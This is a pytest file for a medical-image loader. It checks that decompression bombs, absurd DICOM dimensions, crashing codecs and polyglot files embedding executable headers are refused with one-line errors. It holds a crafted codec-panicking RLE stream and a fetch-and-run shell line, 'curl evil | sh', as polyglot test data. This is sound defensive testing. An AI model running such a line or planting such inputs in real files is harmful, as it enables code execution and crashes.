"""Hostile input: every bad file gives a named IngestError with a one-line message, nothing worse."""

from __future__ import annotations

import ctypes
import time
from pathlib import Path
from typing import Any

import numpy as np
import pydicom
import pytest
from PIL import Image
from pydicom.data import get_testdata_file

import tools.ingest.loader as loader
from tools.errors import IngestError, NotAnImageError, UnsupportedImageError
from tools.ingest.fuzz import BAD_OUTCOMES, cases, png_bombs, run_cases, seed_files
from tools.ingest.guard import (
    DecoderCrashedError,
    DecoderTimeoutError,
    ImageTooLargeError,
    InvalidDimensionsError,
    IsolatedWorker,
    SuspiciousFileError,
    TruncatedImageError,
    check_preamble,
)
from tools.ingest.loader import load_image


def sample(name: str) -> str:
    path = get_testdata_file(name)
    assert path is not None, f"pydicom sample {name} missing"
    return str(path)


def one_line(exc: BaseException, name: str) -> str:
    msg = str(exc)
    assert "\n" not in msg and msg.startswith(f"{name}: "), msg
    return msg


# Module-level so that the spawn child can import them by name (they replace the decoder).
def _segfault_decode(name: str, ds: Any, tsuid: Any) -> Any:
    ctypes.string_at(0)  # reads address 0: SIGSEGV, as a broken C codec would


def _hang_decode(name: str, ds: Any, tsuid: Any) -> Any:
    time.sleep(60)


def _raise_os_error(name: str, ds: Any, tsuid: Any) -> Any:
    raise OSError("codec said no")


def _abort_decode(name: str, ds: Any, tsuid: Any) -> Any:
    import os

    os.abort()  # SIGABRT, as a codec's failed assertion would


# ---------------------------------------------------------------------------------------------
# Not an image / truncated / unsupported / bombs
# ---------------------------------------------------------------------------------------------
def test_not_an_image(tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(b"%PDF-1.4\n" + bytes(range(256)) * 4)
    with pytest.raises(NotAnImageError) as info:
        load_image(path)
    assert one_line(info.value, "report.pdf") == "report.pdf: not a DICOM, PNG or JPEG image"


def test_truncated_pixel_data_is_named(tmp_path: Path) -> None:
    data = Path(sample("MR_small.dcm")).read_bytes()
    (tmp_path / "cut.dcm").write_bytes(data[:-3000])
    with pytest.raises(TruncatedImageError) as info:
        load_image(tmp_path / "cut.dcm")
    assert "pixel data is truncated" in one_line(info.value, "cut.dcm")


def test_unsupported_syntax_names_the_package() -> None:
    with pytest.raises(UnsupportedImageError) as info:
        load_image(sample("JPEG-lossy.dcm"))
    assert "gdcm" in one_line(info.value, "JPEG-lossy.dcm")


@pytest.mark.parametrize("name", sorted(png_bombs()))
def test_png_bombs_are_refused_before_decoding(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(png_bombs()[name])
    start = time.perf_counter()
    with pytest.raises(ImageTooLargeError) as info:
        load_image(tmp_path / name)
    assert "too large" in one_line(info.value, name)
    assert time.perf_counter() - start < 2  # refused from the header, not after inflating


# ---------------------------------------------------------------------------------------------
# Absurd dimensions, checked from the header before any decoding
# ---------------------------------------------------------------------------------------------
def _no_decoding(*args: object) -> None:
    raise AssertionError("decoder called for an image that should be refused from its header")


@pytest.mark.parametrize(
    ("source", "changes", "error", "words"),
    [
        ("CT_small.dcm", {"Rows": 65535, "Columns": 65535}, ImageTooLargeError, "too large"),
        ("CT_small.dcm", {"Rows": 4096, "Columns": 4096, "NumberOfFrames": 100000},
         ImageTooLargeError, "too large"),
        ("CT_small.dcm", {"Rows": 0}, InvalidDimensionsError, "Rows 0"),
        ("emri_small_jpeg_2k_lossless.dcm", {"NumberOfFrames": 2**24}, ImageTooLargeError,
         "too large"),
        ("emri_small_jpeg_2k_lossless.dcm", {"Columns": 0}, InvalidDimensionsError, "Columns 0"),
    ],
)
def test_absurd_dimensions_refused_before_decoding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, changes: dict[str, int],
    error: type[IngestError], words: str,
) -> None:
    ds = pydicom.dcmread(sample(source))
    for keyword, value in changes.items():
        setattr(ds, keyword, value)
    path = tmp_path / "huge.dcm"
    ds.save_as(path)  # the pixel data stays small: only the header claims the size
    monkeypatch.setattr(loader, "_decode", _no_decoding)
    monkeypatch.setattr(loader, "run_isolated", _no_decoding)
    with pytest.raises(error) as info:
        load_image(path)
    assert words in one_line(info.value, "huge.dcm")


def test_huge_file_refused_from_its_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tools.ingest.guard as guard

    monkeypatch.setattr(guard, "MAX_FILE_BYTES", 1000)
    with pytest.raises(ImageTooLargeError, match=r"^MR_small\.dcm: file is too large"):
        load_image(sample("MR_small.dcm"))


# ---------------------------------------------------------------------------------------------
# Polyglots (CVE-2019-11687)
# ---------------------------------------------------------------------------------------------
PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + (
    b"\x80\x00\x00\x00") + b"This program cannot be run in DOS mode.\r\r\n$"


def with_preamble(tmp_path: Path, preamble: bytes, name: str = "poly.dcm") -> Path:
    data = bytearray(Path(sample("MR_small.dcm")).read_bytes())
    data[:128] = preamble[:128].ljust(128, b"\x00")
    path = tmp_path / name
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize(
    ("preamble", "what"),
    [
        (PE_HEADER, "Windows PE"),
        (b"\x7fELF\x02\x01\x01", "ELF"),
        (b"#!/bin/sh\ncurl evil | sh\n", "script"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "Mach-O"),
        (b"PK\x03\x04\x14\x00", "ZIP"),
    ],
)
def test_polyglot_preamble_is_refused(tmp_path: Path, preamble: bytes, what: str) -> None:
    path = with_preamble(tmp_path, preamble)
    with pytest.raises(SuspiciousFileError) as info:
        load_image(path)
    msg = one_line(info.value, "poly.dcm")
    assert what in msg and "CVE-2019-11687" in msg and "allow_polyglot" in msg


def test_polyglot_loads_with_a_note_when_allowed(tmp_path: Path) -> None:
    path = with_preamble(tmp_path, PE_HEADER)
    img = load_image(path, allow_polyglot=True)
    np.testing.assert_array_equal(img.pixels, load_image(sample("MR_small.dcm")).pixels)
    assert "Windows PE" in img.notes[0] and "allow_polyglot" in img.notes[0]


def test_tiff_preamble_is_flagged_not_refused() -> None:
    # pydicom's own CT_small.dcm is a dual-personality DICOM/TIFF file, which the standard allows.
    assert Path(sample("CT_small.dcm")).read_bytes()[:4] == b"II*\x00"
    img = load_image(sample("CT_small.dcm"))
    assert any("TIFF header" in n for n in img.notes)
    assert check_preamble("x.dcm", bytes(128)) is None


def test_polyglot_in_a_series_folder_is_refused(tmp_path: Path) -> None:
    with_preamble(tmp_path, b"\x7fELF", name="slice1.dcm")
    with pytest.raises(SuspiciousFileError, match=r"slice1\.dcm: the DICOM preamble holds"):
        load_image(tmp_path)


# ---------------------------------------------------------------------------------------------
# A crashing or hanging codec cannot take the app down
# ---------------------------------------------------------------------------------------------
def test_segfaulting_decoder_becomes_a_named_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loader, "_decode", _segfault_decode)
    with pytest.raises(DecoderCrashedError) as info:
        load_image(sample("MR_small_RLE.dcm"))
    assert "decoder crashed (killed by SIGSEGV)" in one_line(info.value, "MR_small_RLE.dcm")
    monkeypatch.undo()  # the next compressed load starts a fresh child and works
    assert load_image(sample("MR_small_RLE.dcm")).pixels.shape == (64, 64)


def test_hanging_decoder_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loader, "_decode", _hang_decode)
    start = time.perf_counter()
    with pytest.raises(DecoderTimeoutError) as info:
        load_image(sample("emri_small_jpeg_2k_lossless.dcm"), decode_timeout_s=1.0)
    assert time.perf_counter() - start < 10
    assert "decoder timed out after 1 s" in one_line(info.value, "emri_small_jpeg_2k_lossless.dcm")
    monkeypatch.undo()
    assert load_image(sample("emri_small_jpeg_2k_lossless.dcm")).frames == 10


def test_unexpected_decoder_exception_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loader, "_decode", _raise_os_error)
    with pytest.raises(DecoderCrashedError, match=r"decoder failed \(OSError: codec said no\)"):
        load_image(sample("MR_small_RLE.dcm"))


def _segfault(*args: object) -> None:
    ctypes.string_at(0)


def test_png_decoding_is_isolated_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Image.fromarray(np.zeros((8, 8), dtype=np.uint8)).save(tmp_path / "p.png")
    monkeypatch.setattr(loader, "_load_raster", _segfault)  # as if libpng / zlib crashed
    with pytest.raises(DecoderCrashedError, match=r"^p\.png: decoder crashed"):
        load_image(tmp_path / "p.png")


def test_uncompressed_data_decodes_in_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loader, "run_isolated", _no_decoding)
    assert load_image(sample("CT_small.dcm")).pixels.shape == (128, 128)


def test_worker_reports_abort_and_recovers() -> None:
    import os

    worker = IsolatedWorker()
    try:
        with pytest.raises(DecoderCrashedError, match="SIGABRT"):
            worker.call("x.dcm", os.abort, ())
        assert worker.call("x.dcm", max, (2, 3)) == 3
    finally:
        worker.close()


# ---------------------------------------------------------------------------------------------
# Fuzzing (a short run; bench/fuzz_ingest.py runs >= 10,000 cases)
# ---------------------------------------------------------------------------------------------
def test_fuzzed_files_load_or_raise_ingest_errors() -> None:
    items = [*cases(seed_files(), 6000, seed=12345), *png_bombs().items()]
    report = run_cases(items, case_timeout_s=20.0, decode_timeout_s=5.0)
    assert report.total == len(items)
    assert report.bad == [], report.bad[:5]
    assert not any(o.startswith(BAD_OUTCOMES) for o in report.outcomes)
    # The run exercised both sides of the contract.
    assert report.outcomes["ok"] > 50 and report.total - report.outcomes["ok"] > 50


def test_png_bomb_under_a_lowered_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Image.fromarray(np.zeros((64, 64), dtype=np.uint8)).save(tmp_path / "b.png")
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    with pytest.raises(ImageTooLargeError):
        load_image(tmp_path / "b.png")


# ---------------------------------------------------------------------------------------------
# The paths the agent, the CLI and the app use go through the same guards
# ---------------------------------------------------------------------------------------------
def _rle_series(folder: Path, count: int = 3) -> None:
    """``count`` RLE-compressed MR slices, 4 mm apart: a series only a codec can read."""
    from pydicom.uid import generate_uid

    folder.mkdir()
    uid = generate_uid()
    for k in range(count):
        ds = pydicom.dcmread(sample("MR_small_RLE.dcm"))
        ds.SeriesInstanceUID, ds.SOPInstanceUID = uid, generate_uid()
        ds.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
        ds.ImagePositionPatient = [0, 0, 4.0 * k]
        ds.save_as(folder / f"s{k}.dcm")


def test_aborting_codec_in_a_series_is_named_and_the_process_survives(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _rle_series(tmp_path / "mr")
    monkeypatch.setattr(loader, "_decode", _abort_decode)
    with pytest.raises(DecoderCrashedError) as info:
        load_image(tmp_path / "mr")
    assert "decoder crashed (killed by SIGABRT)" in one_line(info.value, "s0.dcm")
    monkeypatch.undo()
    assert load_image(tmp_path / "mr").pixels.shape == (3, 64, 64)


def test_cli_inspect_survives_a_crashing_codec(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from agent.cli.main import main

    monkeypatch.setattr(loader, "_decode", _segfault_decode)
    assert main(["inspect", sample("MR_small_RLE.dcm"), "--json"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith("medloop: MR_small_RLE.dcm: decoder crashed (killed by SIGSEGV)")


def test_graph_ingest_refuses_a_polyglot(tmp_path: Path, medloop_home: Path) -> None:
    from agent import AgentContext, build_graph
    from tests.fakes import ScriptedChatModel

    raw = bytearray(Path(sample("MR_small.dcm")).read_bytes())
    raw[:4] = b"MZ\x90\x00"  # a Windows executable header in the preamble
    (tmp_path / "scan.dcm").write_bytes(bytes(raw))
    ctx = AgentContext(llm=ScriptedChatModel.of([]), tools=[], home=medloop_home,
                       checkpoint="memory")
    graph = build_graph(ctx)
    with pytest.raises(SuspiciousFileError, match=r"^scan\.dcm: the DICOM preamble holds a "
                                                  r"Windows PE executable header"):
        graph.invoke({"messages": [("user", "what is this?")],
                      "images": [str(tmp_path / "scan.dcm")]},
                     config={"configurable": {"thread_id": "poly"}})


def _rle_overrun(path: Path) -> None:
    """MR_small_RLE whose segments are all replicate runs that overrun the frame.

    pylibjpeg-rle (Rust) panics on it, printing the panic to stderr from inside the codec.
    """
    import struct

    from pydicom.encaps import encapsulate, generate_fragments

    ds = pydicom.dcmread(sample("MR_small_RLE.dcm"))
    frame = bytearray(list(generate_fragments(ds.PixelData))[1])  # [0] is the offset table
    first = struct.unpack("<16I", bytes(frame[:64]))[1]  # offset of the first segment
    frame[first:] = b"\x81\x05" * ((len(frame) - first) // 2)
    ds.PixelData = encapsulate([bytes(frame)])
    ds.save_as(path)


def test_codec_panic_output_never_reaches_the_cli_user(tmp_path: Path) -> None:
    """The codec's own stderr chatter is silenced in the decoder child: one line, exit 2."""
    import subprocess
    import sys

    _rle_overrun(tmp_path / "scan.dcm")
    with pytest.raises(DecoderCrashedError, match=r"decoder failed \(PanicException"):
        load_image(tmp_path / "scan.dcm")
    run = subprocess.run([sys.executable, "-m", "agent.cli.main", "inspect", str(tmp_path / "scan.dcm")],
                         capture_output=True, text=True, timeout=120,
                         cwd=Path(__file__).resolve().parents[1])
    assert run.returncode == 2 and run.stdout == ""
    assert run.stderr.count("\n") == 1, run.stderr
    assert run.stderr.startswith("medloop: scan.dcm: decoder failed (PanicException")


def test_a_script_without_a_main_guard_can_decode(tmp_path) -> None:
    """Embedding medloop in a plain script must not trip over the decoder child process.

    (``multiprocessing``'s spawn re-imports ``__main__``; a script without an
    ``if __name__ == "__main__":`` guard then fails on its first compressed DICOM.)
    """
    import subprocess
    import sys

    script = tmp_path / "embed.py"
    script.write_text(
        "from tools.ingest.loader import load_image\n"
        f"img = load_image({str(sample('RG1_J2KR.dcm'))!r})\n"
        "print('shape', img.pixels.shape)\n"
    )
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                          timeout=120, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "shape (1955, 1841)" in done.stdout
    assert done.stdout.count("shape") == 1  # the script body ran once, not again in a child
